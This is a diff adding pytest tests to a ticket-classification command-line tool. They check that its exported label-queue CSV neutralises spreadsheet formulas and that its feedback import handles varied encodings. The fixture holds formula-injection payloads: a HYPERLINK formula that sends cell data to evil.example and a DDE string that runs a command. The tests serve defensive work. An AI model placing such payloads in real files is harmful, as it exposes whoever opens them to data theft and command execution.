@@ -233,3 +233,98 @@ def test_shadow_canary_and_status_from_the_command_line(
         assert cli.main(argv) == 2, argv
         err = capsys.readouterr().err.strip().splitlines()
         assert len(err) == 1 and err[0].startswith("error") and message in err[0], err
+
+
+def _desk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A home whose champion is a golden bundle and whose log holds three predictions, one of
+    them a ticket written to run as a spreadsheet formula."""
+    import shutil
+
+    from core.io.store import LocalStore
+    from core.predlog import PredictionLog, PredictionRecord
+    from core.release.bundle import load_bundle, read_champion, swap_champion
+
+    home = tmp_path / "home"
+    golden = Path(__file__).resolve().parents[1] / "fixtures" / "golden"
+    shutil.copytree(golden, home / "store")
+    store = LocalStore(home / "store")
+    _, manifest = load_bundle(store, "golden-logistic-regression")
+    assert swap_champion(store, manifest, read_champion(store)[1])
+    texts = ['=HYPERLINK("http://evil.example/?d="&A1,"ver")', "+cmd|' /C calc'!A0", "clave"]
+    with PredictionLog(home / "predictions.db") as log:
+        log.record_each(
+            [
+                PredictionRecord(
+                    f"r{i}", manifest.model_version, text, "", "errores_portal", 0.4, {}
+                )
+                for i, text in enumerate(texts)
+            ]
+        )
+    monkeypatch.setenv("TICKETS_HOME", str(home))
+    return home
+
+
+def test_the_label_queue_file_cannot_run_a_formula_and_its_labels_come_back(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Anonymous ticket text such as =HYPERLINK(...) landed verbatim in the file an agent opens."""
+    import csv
+
+    from core.predlog import PredictionLog
+
+    home = _desk(tmp_path, monkeypatch)
+    out = tmp_path / "queue.csv"
+    assert cli.main(["label-queue", "--n", "3", "--out", str(out)]) == 0
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    cells = [value for row in rows for value in row.values()]
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells)
+    texts = {row["short_description"] for row in rows}
+    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"ver")' in texts  # still readable
+    for row in rows:
+        row["true_label"] = "=acceso_contrasenas" if row["request_id"] == "r0" else "certificados"
+        row["true_label"] = (
+            "'" + row["true_label"] if row["true_label"][0] == "=" else row["true_label"]
+        )
+    with out.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    assert cli.main(["feedback", "--file", str(out)]) == 0
+    with PredictionLog(home / "predictions.db") as log:
+        labels = dict(log.window().set_index("request_id")["true_label"])
+    assert labels["r0"] == "=acceso_contrasenas" and labels["r2"] == "certificados"
+
+
+FEEDBACK_FILES = {
+    "windows-1252 with ;": (
+        "request_id;true_label;nota\nr2;certificados;sesión\n".encode("cp1252"),
+        0,
+    ),
+    "utf-16 with tabs": ("request_id\ttrue_label\nr2\tcertificados\n".encode("utf-16"), 0),
+    "empty": (b"", "the file is empty"),
+    "badly quoted": (b'request_id,true_label\n"r2,certificados\nr1,x\n', "not a readable CSV"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(FEEDBACK_FILES))
+def test_a_feedback_file_is_read_as_tables_are_or_refused_in_one_line(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    name: str,
+) -> None:
+    """Windows-1252, UTF-16, empty and badly quoted files ended in tracebacks, and a ';' file
+    was said to miss its columns."""
+    _desk(tmp_path, monkeypatch)
+    content, expected = FEEDBACK_FILES[name]
+    path = tmp_path / "labels.csv"
+    path.write_bytes(content)
+    status = cli.main(["feedback", "--file", str(path)])
+    printed = capsys.readouterr()
+    if expected == 0:
+        assert status == 0 and "1 labels stored" in printed.out
+    else:
+        assert status == 2
+        (line,) = printed.err.strip().splitlines()
+        assert line.startswith("error: ") and str(path) in line and str(expected) in line
